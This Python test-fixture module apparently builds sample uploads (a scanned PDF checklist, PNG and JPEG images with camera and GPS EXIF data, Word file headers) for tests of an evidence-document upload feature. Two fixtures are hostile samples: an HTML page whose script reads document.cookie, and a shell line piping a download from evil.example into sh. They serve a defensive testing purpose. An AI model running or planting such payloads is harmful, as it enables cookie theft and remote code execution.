"""Small files for the evidence-document tests, made here (nothing downloaded)."""

from __future__ import annotations

import io

from PIL import Image

#: A one-page PDF as a clinic would scan a signed checklist (minimal but well formed).
CHECKLIST_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
    b"trailer << /Root 1 0 R >>\n"
    b"%%EOF\n"
)
#: A web page with a script, named as if it were a PDF by whoever sends it.
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
#: The start of a .docx (a ZIP holding word/document.xml) and of an old .doc (OLE2).
WORD_DOCX = (
    b"PK\x03\x04" + b"\x14\x00" + b"\x00" * 24 + b"[Content_Types].xml" + b"word/document.xml"
)
WORD_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

#: EXIF tags: camera make and model, and the GPS block.
MAKE, MODEL, GPS_IFD = 0x010F, 0x0110, 0x8825


def png(colour=(20, 120, 200), size=(40, 30), text: dict | None = None) -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def jpeg_with_gps(colour=(200, 30, 30), size=(64, 48)) -> bytes:
    """A phone photo: its EXIF names the phone and where it was taken."""
    exif = Image.Exif()
    exif[MAKE] = "Apple"
    exif[MODEL] = "iPhone 15 Pro"
    exif[GPS_IFD] = {1: "N", 2: (37.0, 46.0, 30.0), 3: "W", 4: (122.0, 25.0, 10.0)}
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="JPEG", exif=exif, comment=b"Clinic A")
    return out.getvalue()


def exif_of(data: bytes) -> dict:
    with Image.open(io.BytesIO(data)) as image:
        exif = image.getexif()
        return {"tags": dict(exif), "gps": dict(exif.get_ifd(GPS_IFD)), "info": dict(image.info)}
